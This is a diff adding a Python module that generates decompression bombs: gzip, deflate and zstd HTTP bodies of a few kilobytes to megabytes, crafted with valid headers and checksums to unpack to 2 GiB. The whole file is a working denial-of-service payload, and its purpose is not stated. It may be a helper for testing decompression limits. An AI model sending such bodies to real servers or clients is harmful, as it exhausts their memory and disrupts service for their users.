@@ -1,0 +1,66 @@
+"""Small bodies that unpack to gigabytes, piece by piece, in the encodings of HTTP (RFC 9110, section 8.4.1)."""
+
+from __future__ import annotations
+
+import zlib
+from collections.abc import Callable, Iterator
+from typing import Final, Literal, get_args
+
+Encoding = Literal["gzip", "deflate", "zstd"]
+ENCODINGS: Final[tuple[Encoding, ...]] = get_args(Encoding)
+
+UNPACKED: Final = 1 << 31
+"""Bytes that a bomb unpacks to."""
+CHECKSUM: Final = 0x4DBDF21C
+"""CRC-32 of so many zeros."""
+PIECE: Final = 1 << 20
+"""Zeros in a piece of deflate's; 1 KiB packed, so a bomb is 2 MiB."""
+BLOCK: Final = 1 << 17
+"""Zeros in a block of zstd's, the most that it allows; 4 bytes packed, so a bomb is 64 KiB."""
+GZIP_HEADER: Final = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
+"""RFC 1952: deflate, no name, no time."""
+ZSTD_HEADER: Final = b"\x28\xb5\x2f\xfd\x00\x38"
+"""RFC 8878: magic number, no length, checksum or dictionary, a window of 2^17 bytes."""
+
+
+def bomb(encoding: Encoding) -> Iterator[bytes]:
+    """The pieces of a bomb. Its checksum, which comes last, is right where the encoding has one."""
+    return _BOMBS[encoding]()
+
+
+def _gzip() -> Iterator[bytes]:
+    yield GZIP_HEADER
+    yield from _deflated(-zlib.MAX_WBITS)
+    yield CHECKSUM.to_bytes(4, "little") + UNPACKED.to_bytes(4, "little")
+
+
+def _deflate() -> Iterator[bytes]:
+    """HTTP's "deflate" is zlib's form, RFC 1950; its checksum of zeros is their count in the upper half, 1 below."""
+    yield b"\x78\x9c"
+    yield from _deflated(-zlib.MAX_WBITS)
+    yield ((UNPACKED % 65_521) << 16 | 1).to_bytes(4, "big")
+
+
+def _deflated(bits: int) -> Iterator[bytes]:
+    """After a full flush the packer has forgotten all before, so every piece of zeros is packed to the same bytes."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, bits)
+    piece = packer.compress(bytes(PIECE)) + packer.flush(zlib.Z_FULL_FLUSH)
+    for _ in range(UNPACKED // PIECE):
+        yield piece
+    yield zlib.compressobj(9, zlib.DEFLATED, bits).flush()
+
+
+def _zstd() -> Iterator[bytes]:
+    """A block of the kind RLE is a byte and how often it is there."""
+    yield ZSTD_HEADER
+    block = (BLOCK << 3 | 1 << 1).to_bytes(3, "little") + b"\0"
+    for _ in range(UNPACKED // BLOCK // 256 - 1):
+        yield block * 256
+    yield block * 255 + (BLOCK << 3 | 1 << 1 | 1).to_bytes(3, "little") + b"\0"
+
+
+_BOMBS: Final[dict[Encoding, Callable[[], Iterator[bytes]]]] = {
+    "gzip": _gzip,
+    "deflate": _deflate,
+    "zstd": _zstd,
+}
